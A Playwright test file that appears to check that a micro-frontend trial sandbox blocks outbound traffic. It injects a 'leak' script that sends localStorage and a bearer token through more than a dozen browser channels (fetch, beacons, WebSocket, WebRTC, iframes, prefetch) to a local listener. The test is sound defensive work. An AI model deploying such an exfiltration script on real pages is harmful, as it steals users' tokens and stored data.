import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtemp, readdir, rm } from 'node:fs/promises'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { operations } from '../api/operations.ts'
import { operationRoutes } from '../api/routes.generated.ts'
import { replacePages } from '../publishing/badVersions.ts'
import { publishEdited } from '../publishing/publishedBuild.ts'
import { mfe, siteUnderTest } from '../support/site.ts'

const { listProjects, listUsers, register } = operationRoutes

/** Code that sends what it finds to another host, and to this machine's other ports, in every way that a page has. */
const leak = (tcp: number, udp: number) => `
  const host = '127.0.0.1:${tcp}'
  const stolen = () => encodeURIComponent(JSON.stringify({ ...localStorage }))
  const ways = [
    () => fetch('http://' + host + '/fetch?' + stolen(), { mode: 'no-cors' }),
    () => fetch('http://localhost:${tcp}/localhost?' + stolen(), { mode: 'no-cors' }),
    () => navigator.sendBeacon('http://' + host + '/beacon', stolen()),
    () => { new Image().src = 'http://' + host + '/image?' + stolen() },
    () => new WebSocket('ws://' + host + '/socket'),
    () => new EventSource('http://' + host + '/events'),
    () => new Worker(URL.createObjectURL(new Blob(['fetch("http://' + host + '/worker", { mode: "no-cors" })']))),
    () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://' + host + '/frame' })) },
    () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'http://' + host })) },
    () => { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://' + host + '/prefetch' })) },
    () => window.open('http://' + host + '/window?' + stolen()),
    async () => {
      const urls = ['stun:127.0.0.1:${udp}', 'turn:127.0.0.1:${udp}?transport=udp', 'turn:' + host + '?transport=tcp']
      const peer = new RTCPeerConnection({ iceServers: urls.map((url) => ({ urls: url, username: 'a', credential: 'b' })) })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    },
    () => new WebTransport('https://127.0.0.1:${udp}/transport').ready,
    () => fetch('${listUsers.path}', { headers: { authorization: 'Bearer ' + localStorage.accessToken } })
      .then((response) => response.text()).then((text) => fetch('${listProjects.path}?found=' + encodeURIComponent(text))),
    () => fetch('${register.path}', { method: 'POST', body: stolen() }),
  ]
  if (typeof window !== 'undefined') for (const way of ways) Promise.resolve().then(way).catch(() => undefined)
`

test('a version that is tried reaches nothing but the site, and takes nothing from it', async () => {
  test.setTimeout(180_000)
  const { url, siteFolder } = siteUnderTest()
  // Other trials of this machine have their profiles elsewhere.
  const TMPDIR = await mkdtemp(join(tmpdir(), 'plataforma-trial-'))
  const reached: string[] = []
  const tcp = createServer((socket) => {
    reached.push('a connection')
    socket.destroy()
  }).listen(0, '127.0.0.1')
  const udp = createSocket('udp4', () => reached.push('a datagram')).bind(0, '127.0.0.1')
  await Promise.all([once(tcp, 'listening'), once(udp, 'listening')])
  try {
    const module = leak((tcp.address() as AddressInfo).port, udp.address().port)
    const version = `6.6.${Date.now()}`
    const edit = (folder: string) => replacePages(folder, 'Academia curiosa', { module })
    await publishEdited(siteFolder, { remote: 'academy', version, edit })
    const command = ['try', 'academy', version, '--page', '/academy', '--at', url, '--json']
    const tried = await mfe(command, siteFolder, { TMPDIR }).catch(String)
    // It ran: its pages were opened, and asked for another host.
    expect(tried).toContain('/academy')
    expect(tried).toContain('127.0.0.1')
    expect(reached).toEqual([])
    expect(await readdir(join(TMPDIR, 'mfe-trials'))).toEqual([])
    await operations.ready({ url })
  } finally {
    tcp.close()
    udp.close()
    await rm(TMPDIR, { recursive: true, force: true })
  }
})
